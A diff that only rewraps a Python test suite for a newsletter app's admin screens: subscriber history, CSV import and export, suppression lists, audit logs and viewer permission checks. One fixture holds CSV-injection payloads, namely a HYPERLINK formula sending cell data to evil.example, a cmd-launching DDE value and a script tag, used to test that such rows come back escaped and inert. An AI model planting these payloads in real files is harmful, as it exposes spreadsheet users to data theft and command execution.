@@ -1,4 +1,5 @@
 """Admin subscribers, CSV import and export, suppressions: the real app, a real worker, a real SMTP server."""
+
 from __future__ import annotations
 
 import csv
@@ -40,23 +41,42 @@ def emails_on(page_text: str) -> list[str]:
 def reader_with_history(db, world_news) -> Subscriber:
     """A confirmed reader who signed up on the form, paused, and got one edition sent and one refused."""
     consent = ConsentContext(source="form", ip="203.0.113.7", user_agent="Firefox/140 test", consent_text_version="v3")
-    result = add_subscriptions(db, email="paula@example.org", lists=[world_news], consent=consent, name="Paula",
-                               confirmed=True)
+    result = add_subscriptions(
+        db, email="paula@example.org", lists=[world_news], consent=consent, name="Paula", confirmed=True
+    )
     db.commit()
     subscriber = db.get(Subscriber, result.subscriber_id)
     subscriber.paused_until = utcnow() + timedelta(days=7)
     now = utcnow()
-    for day, status, code, reply in ((date(2026, 3, 9), "sent", 250, "2.0.0 Ok: queued as 4F2A"),
-                                     (date(2026, 3, 10), "failed", 550,
-                                      "5.1.1 <paula@example.org>: mailbox unavailable")):
-        edition = Edition(list_id=world_news.id, edition_date=day, window_start=now, window_end=now,
-                          subject=f"News of {day}", placeholder_key=f"k{day:%d}", html="<p>x</p>", text="x",
-                          send_status="complete")
+    for day, status, code, reply in (
+        (date(2026, 3, 9), "sent", 250, "2.0.0 Ok: queued as 4F2A"),
+        (date(2026, 3, 10), "failed", 550, "5.1.1 <paula@example.org>: mailbox unavailable"),
+    ):
+        edition = Edition(
+            list_id=world_news.id,
+            edition_date=day,
+            window_start=now,
+            window_end=now,
+            subject=f"News of {day}",
+            placeholder_key=f"k{day:%d}",
+            html="<p>x</p>",
+            text="x",
+            send_status="complete",
+        )
         db.add(edition)
         db.flush()
-        db.add(Delivery(edition_id=edition.id, subscriber_id=subscriber.id, status=status, not_before=now,
-                        smtp_code=code, smtp_reply=reply, sent_at=now if status == "sent" else None,
-                        failure_kind="hard_bounce" if status == "failed" else None))
+        db.add(
+            Delivery(
+                edition_id=edition.id,
+                subscriber_id=subscriber.id,
+                status=status,
+                not_before=now,
+                smtp_code=code,
+                smtp_reply=reply,
+                sent_at=now if status == "sent" else None,
+                failure_kind="hard_bounce" if status == "failed" else None,
+            )
+        )
     db.commit()
     return subscriber
 
@@ -92,9 +112,19 @@ def test_the_subscriber_page_shows_consent_deliveries_and_the_pause(client, db, 
     signed_in(client, db)
     reader = reader_with_history(db, world_news)
     page = client.get(f"/admin/subscribers/{reader.id}").text
-    for shown in ("paula@example.org", "203.0.113.7", "Firefox/140 test", "v3", "confirmed", "status-paused",
-                  "2.0.0 Ok: queued as 4F2A", "550", "5.1.1 &lt;paula@example.org&gt;: mailbox unavailable",
-                  "hard_bounce", "not suppressed"):
+    for shown in (
+        "paula@example.org",
+        "203.0.113.7",
+        "Firefox/140 test",
+        "v3",
+        "confirmed",
+        "status-paused",
+        "2.0.0 Ok: queued as 4F2A",
+        "550",
+        "5.1.1 &lt;paula@example.org&gt;: mailbox unavailable",
+        "hard_bounce",
+        "not suppressed",
+    ):
         assert shown in page, shown
     data = client.get(f"/api/admin/subscribers/{reader.id}").json()
     assert data["subscriptions"][0]["status"] == "paused" and data["subscriptions"][0]["ip"] == "203.0.113.7"
@@ -109,8 +139,10 @@ def test_unsubscribe_suppress_and_delete_from_the_ui_are_audited_with_the_admin(
     csrf = csrf_of(client, f"/admin/subscribers/{reader_id}")
     answer = client.post(f"/admin/subscribers/{reader_id}/unsubscribe", data={"csrf_token": csrf, "list": ""})
     assert "Unsubscribed from world-news." in answer.text and "status-unsubscribed" in answer.text
-    answer = client.post(f"/admin/subscribers/{reader_id}/suppress",
-                         data={"csrf_token": csrf, "reason": "asked by phone never to be mailed again"})
+    answer = client.post(
+        f"/admin/subscribers/{reader_id}/suppress",
+        data={"csrf_token": csrf, "reason": "asked by phone never to be mailed again"},
+    )
     assert "Suppressed" in answer.text and "asked by phone never to be mailed again" in answer.text
     assert is_suppressed(db, "paula@example.org")
     answer = client.post(f"/admin/subscribers/{reader_id}/delete", data={"csrf_token": csrf})
@@ -135,19 +167,25 @@ def wait_done(client, job_id: int, timeout: float = 30.0) -> dict:
     raise AssertionError(f"import {job_id} not done in {timeout}s: {state}")
 
 
-CSV = ("email,name,timezone\n"
-       "new.one@example.org,New One,Europe/Paris\n"
-       "new.two@example.org,New Two,\n"
-       "new.one@example.org,Again,\n"
-       "not an address,Nobody,\n"
-       "new.three@example.org,Bad Zone,Mars/Olympus\n")
+CSV = (
+    "email,name,timezone\n"
+    "new.one@example.org,New One,Europe/Paris\n"
+    "new.two@example.org,New Two,\n"
+    "new.one@example.org,Again,\n"
+    "not an address,Nobody,\n"
+    "new.three@example.org,Bad Zone,Mars/Olympus\n"
+)
 
 
 def test_a_csv_import_shows_progress_reports_bad_lines_and_mails_each_new_address(client, db, world_news, mailbox):
     signed_in(client, db)
     csrf = csrf_of(client, "/admin/imports/new")
-    answer = client.post("/admin/subscribers/import", data={"csrf_token": csrf, "list": "world-news"},
-                         files={"file": ("readers.csv", CSV.encode(), "text/csv")}, follow_redirects=False)
+    answer = client.post(
+        "/admin/subscribers/import",
+        data={"csrf_token": csrf, "list": "world-news"},
+        files={"file": ("readers.csv", CSV.encode(), "text/csv")},
+        follow_redirects=False,
+    )
     assert answer.status_code == 303, answer.text
     job_id = int(answer.headers["location"].rsplit("/", 1)[1])
     assert answer.headers["location"] == f"/admin/imports/{job_id}"
@@ -156,8 +194,11 @@ def test_a_csv_import_shows_progress_reports_bad_lines_and_mails_each_new_addres
     state = wait_done(client, job_id)
     assert state["status"] == "done" and state["added"] == 2 and state["fraction"] == 1.0
     assert [line for line, _, _ in state["rejected"]] == [4, 5, 6]
-    assert [text for _, _, text in state["rejected"]] == ["new.one@example.org,Again,", "not an address,Nobody,",
-                                                           "new.three@example.org,Bad Zone,Mars/Olympus"]
+    assert [text for _, _, text in state["rejected"]] == [
+        "new.one@example.org,Again,",
+        "not an address,Nobody,",
+        "new.three@example.org,Bad Zone,Mars/Olympus",
+    ]
     report = client.get(f"/admin/imports/{job_id}").text
     assert "Rejected rows" in report and "appears earlier in this file" in report and "Mars/Olympus" in report
     for address in ("new.one@example.org", "new.two@example.org"):
@@ -171,9 +212,11 @@ def test_a_csv_import_shows_progress_reports_bad_lines_and_mails_each_new_addres
 def test_a_pre_confirmed_import_without_a_reason_is_refused_under_the_field(client, db, world_news):
     signed_in(client, db)
     csrf = csrf_of(client, "/admin/imports/new")
-    answer = client.post("/admin/subscribers/import", data={"csrf_token": csrf, "list": "world-news", "confirmed": "1",
-                                                            "reason": "  "},
-                         files={"file": ("readers.csv", CSV.encode(), "text/csv")})
+    answer = client.post(
+        "/admin/subscribers/import",
+        data={"csrf_token": csrf, "list": "world-news", "confirmed": "1", "reason": "  "},
+        files={"file": ("readers.csv", CSV.encode(), "text/csv")},
+    )
     assert answer.status_code == 422
     assert re.search(r'id="reason-error" role="alert">A pre-confirmed import needs a reason', answer.text)
     # The chosen file cannot come back in a file input: the page says so, by name, under the file field.
@@ -184,19 +227,25 @@ def test_a_pre_confirmed_import_without_a_reason_is_refused_under_the_field(clie
     assert db.scalar(select(ImportJob.id)) is None
 
 
-HOSTILE = ("email,name\n"
-           "fine@example.org,Fine\n"
-           "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\"),Formula\n"
-           "+1-2@example,Plus\n"
-           "<script>alert(1)</script>,<b>Bold</b>\n"
-           "@SUM(1+1)*cmd|' /C calc'!A0,At\n")
+HOSTILE = (
+    "email,name\n"
+    "fine@example.org,Fine\n"
+    '=HYPERLINK("http://evil.example/?"&A1;"x"),Formula\n'
+    "+1-2@example,Plus\n"
+    "<script>alert(1)</script>,<b>Bold</b>\n"
+    "@SUM(1+1)*cmd|' /C calc'!A0,At\n"
+)
 
 
 def test_rejected_rows_show_their_value_escaped_and_download_as_inert_csv(client, db, world_news):
     signed_in(client, db)
     csrf = csrf_of(client, "/admin/imports/new")
-    answer = client.post("/admin/subscribers/import", data={"csrf_token": csrf, "list": "world-news"},
-                         files={"file": ("hostile.csv", HOSTILE.encode(), "text/csv")}, follow_redirects=False)
+    answer = client.post(
+        "/admin/subscribers/import",
+        data={"csrf_token": csrf, "list": "world-news"},
+        files={"file": ("hostile.csv", HOSTILE.encode(), "text/csv")},
+        follow_redirects=False,
+    )
     job_id = int(answer.headers["location"].rsplit("/", 1)[1])
     state = wait_done(client, job_id)
     assert [line for line, _, _ in state["rejected"]] == [3, 4, 5, 6], state["rejected"]
@@ -211,7 +260,7 @@ def test_rejected_rows_show_their_value_escaped_and_download_as_inert_csv(client
     rows = list(csv.reader(io.StringIO(download.text)))
     assert rows[0] == ["line", "reason", "row"] and [row[0] for row in rows[1:]] == ["3", "4", "5", "6"]
     by_line = {int(row[0]): row for row in rows[1:]}
-    assert by_line[3][2] == "'=HYPERLINK(\"http://evil.example/?\"&A1;\"x\"),Formula"  # a formula made text
+    assert by_line[3][2] == '\'=HYPERLINK("http://evil.example/?"&A1;"x"),Formula'  # a formula made text
     assert by_line[4][2] == "'+1-2@example,Plus" and by_line[6][2].startswith("'@SUM(1+1)")
     assert by_line[5][2] == "<script>alert(1)</script>,<b>Bold</b>"  # a CSV cell is not HTML: kept as it was
     assert all(row[1] and not row[1].startswith(("=", "+", "-", "@")) for row in rows[1:])
@@ -229,8 +278,11 @@ def test_an_upload_over_the_limit_is_one_clear_line_and_nothing_is_stored(settin
         signed_in(browser, db)
         csrf = csrf_of(browser, "/admin/imports/new")
         big = ("email\n" + "".join(f"reader{n}@example.org\n" for n in range(40))).encode()
-        answer = browser.post("/admin/subscribers/import", data={"csrf_token": csrf, "list": "world-news"},
-                              files={"file": ("big.csv", big, "text/csv")})
+        answer = browser.post(
+            "/admin/subscribers/import",
+            data={"csrf_token": csrf, "list": "world-news"},
+            files={"file": ("big.csv", big, "text/csv")},
+        )
     assert answer.status_code == 413 and "too large" in answer.text
     db.expire_all()
     assert db.scalar(select(ImportJob.id)) is None
@@ -248,8 +300,9 @@ def test_export_is_a_csv_download_of_the_list_and_status(client, db, settings, w
     rows = list(csv.DictReader(io.StringIO(answer.text)))
     assert sorted(row["email"] for row in rows) == ["fan0@example.org", "fan1@example.org", "fan2@example.org"]
     assert {row["status"] for row in rows} == {"confirmed"}
-    everyone = list(csv.DictReader(io.StringIO(client.get("/admin/subscribers/export",
-                                                          params={"list": "world-news"}).text)))
+    everyone = list(
+        csv.DictReader(io.StringIO(client.get("/admin/subscribers/export", params={"list": "world-news"}).text))
+    )
     assert len(everyone) == 5
     assert [e.actor for e in audit_of(db, "subscribers.export")] == ["ann@example.org"] * 2
 
@@ -257,31 +310,44 @@ def test_export_is_a_csv_download_of_the_list_and_status(client, db, settings, w
 def test_suppressions_are_added_looked_up_and_removed_with_a_reason(client, db):
     signed_in(client, db)
     csrf = csrf_of(client, "/admin/suppressions")
-    answer = client.post("/admin/suppressions", data={"csrf_token": csrf, "address": "Gone@Example.org",
-                                                      "reason": "complained by letter"})
+    answer = client.post(
+        "/admin/suppressions",
+        data={"csrf_token": csrf, "address": "Gone@Example.org", "reason": "complained by letter"},
+    )
     assert "Suppressed" in answer.text and "complained by letter" in answer.text
     assert is_suppressed(db, "gone@example.org")
     looked = client.post("/admin/suppressions/lookup", data={"csrf_token": csrf, "address": "gone@example.org"})
     assert "Suppressed</strong>" in looked.text and "complained by letter" in looked.text
     assert "gone@example.org" not in client.get("/admin/suppressions").text.replace('value="gone@example.org"', "")
-    refused = client.post("/admin/suppressions/remove", data={"csrf_token": csrf, "address": "gone@example.org",
-                                                              "reason": ""})
+    refused = client.post(
+        "/admin/suppressions/remove", data={"csrf_token": csrf, "address": "gone@example.org", "reason": ""}
+    )
     assert refused.status_code == 422 and "Please give a reason" in refused.text
-    removed = client.post("/admin/suppressions/remove", data={"csrf_token": csrf, "address": "gone@example.org",
-                                                              "reason": "wrote back: wants the news again"})
+    removed = client.post(
+        "/admin/suppressions/remove",
+        data={"csrf_token": csrf, "address": "gone@example.org", "reason": "wrote back: wants the news again"},
+    )
     assert "Removed from the suppression list" in removed.text and not is_suppressed(db, "gone@example.org")
     again = client.post("/admin/suppressions/lookup", data={"csrf_token": csrf, "address": "gone@example.org"})
     assert "Not suppressed" in again.text
-    assert [e.actor for e in audit_of(db, "suppression.add") + audit_of(db, "suppression.remove")] == \
-        ["ann@example.org"] * 2
+    assert [e.actor for e in audit_of(db, "suppression.add") + audit_of(db, "suppression.remove")] == [
+        "ann@example.org"
+    ] * 2
 
-    made = client.post("/api/admin/suppressions", headers={"X-CSRF-Token": csrf},
-                       json={"address": "api@example.org", "reason": "hard bounce elsewhere"})
+    made = client.post(
+        "/api/admin/suppressions",
+        headers={"X-CSRF-Token": csrf},
+        json={"address": "api@example.org", "reason": "hard bounce elsewhere"},
+    )
     assert made.status_code == 201 and made.json()["reason"] == "hard bounce elsewhere"
     listed = client.get("/api/admin/suppressions").json()
     assert [row["hash_prefix"] for row in listed["rows"]] == [made.json()["hash_prefix"]]
-    gone = client.request("DELETE", "/api/admin/suppressions", headers={"X-CSRF-Token": csrf},
-                          json={"address": "api@example.org", "reason": "test over"})
+    gone = client.request(
+        "DELETE",
+        "/api/admin/suppressions",
+        headers={"X-CSRF-Token": csrf},
+        json={"address": "api@example.org", "reason": "test over"},
+    )
     assert gone.status_code == 200 and gone.json() == {"removed": True}
     db.expire_all()
     assert db.scalar(select(Suppression.id)) is None
@@ -295,13 +361,21 @@ def test_the_api_unsubscribes_deletes_and_imports(client, db, world_news, mailbo
     assert left.status_code == 200 and left.json() == {"changed": ["world-news"]}
     assert client.delete(f"/api/admin/subscribers/{reader_id}", headers=csrf).json() == {"deleted": reader_id}
     assert client.get(f"/api/admin/subscribers/{reader_id}").status_code == 404
-    started = client.post("/api/admin/imports", headers=csrf, data={"list": "world-news"},
-                          files={"file": ("api.csv", b"email\nvia.api@example.org\n", "text/csv")})
+    started = client.post(
+        "/api/admin/imports",
+        headers=csrf,
+        data={"list": "world-news"},
+        files={"file": ("api.csv", b"email\nvia.api@example.org\n", "text/csv")},
+    )
     assert started.status_code == 202, started.text
     assert wait_done(client, started.json()["id"])["added"] == 1
     mailbox.wait_for("via.api@example.org")
-    refused = client.post("/api/admin/imports", headers=csrf, data={"list": "world-news", "confirmed": "true"},
-                          files={"file": ("api.csv", b"email\nx@example.org\n", "text/csv")})
+    refused = client.post(
+        "/api/admin/imports",
+        headers=csrf,
+        data={"list": "world-news", "confirmed": "true"},
+        files={"file": ("api.csv", b"email\nx@example.org\n", "text/csv")},
+    )
     assert refused.status_code == 422
 
 
@@ -316,20 +390,44 @@ def viewer(settings, db):
 def test_a_viewer_gets_403_on_every_subscriber_screen_and_call(viewer, db, world_news):
     csrf = csrf_of(viewer, "/admin/lists")
     form = {"csrf_token": csrf, "address": "a@example.org", "reason": "r", "list": "world-news"}
-    reads = ["/admin/subscribers", "/admin/subscribers/1", "/admin/subscribers/export?list=world-news",
-             "/admin/imports", "/admin/imports/new", "/admin/imports/1", "/admin/imports/1/rejected.csv",
-             "/admin/suppressions", "/api/admin/subscribers", "/api/admin/subscribers/1", "/api/admin/imports/1",
-             "/api/admin/imports/1/rejected.csv", "/api/admin/suppressions"]
+    reads = [
+        "/admin/subscribers",
+        "/admin/subscribers/1",
+        "/admin/subscribers/export?list=world-news",
+        "/admin/imports",
+        "/admin/imports/new",
+        "/admin/imports/1",
+        "/admin/imports/1/rejected.csv",
+        "/admin/suppressions",
+        "/api/admin/subscribers",
+        "/api/admin/subscribers/1",
+        "/api/admin/imports/1",
+        "/api/admin/imports/1/rejected.csv",
+        "/api/admin/suppressions",
+    ]
     for path in reads:
         assert viewer.get(path).status_code == 403, path
-    for path in ("/admin/subscribers/1/unsubscribe", "/admin/subscribers/1/suppress", "/admin/subscribers/1/delete",
-                 "/admin/subscribers/import", "/admin/suppressions", "/admin/suppressions/remove",
-                 "/admin/suppressions/lookup"):
+    for path in (
+        "/admin/subscribers/1/unsubscribe",
+        "/admin/subscribers/1/suppress",
+        "/admin/subscribers/1/delete",
+        "/admin/subscribers/import",
+        "/admin/suppressions",
+        "/admin/suppressions/remove",
+        "/admin/suppressions/lookup",
+    ):
         assert viewer.post(path, data=form).status_code == 403, path
     headers = {"X-CSRF-Token": csrf}
     assert viewer.post("/api/admin/suppressions", headers=headers, json=form).status_code == 403
     assert viewer.request("DELETE", "/api/admin/suppressions", headers=headers, json=form).status_code == 403
     assert viewer.delete("/api/admin/subscribers/1", headers=headers).status_code == 403
     assert viewer.post("/api/admin/subscribers/1/unsubscribe", headers=headers, json={}).status_code == 403
-    assert viewer.post("/api/admin/imports", headers=headers, data={"list": "world-news"},
-                       files={"file": ("a.csv", b"email\na@example.org\n", "text/csv")}).status_code == 403
+    assert (
+        viewer.post(
+            "/api/admin/imports",
+            headers=headers,
+            data={"list": "world-news"},
+            files={"file": ("a.csv", b"email\na@example.org\n", "text/csv")},
+        ).status_code
+        == 403
+    )
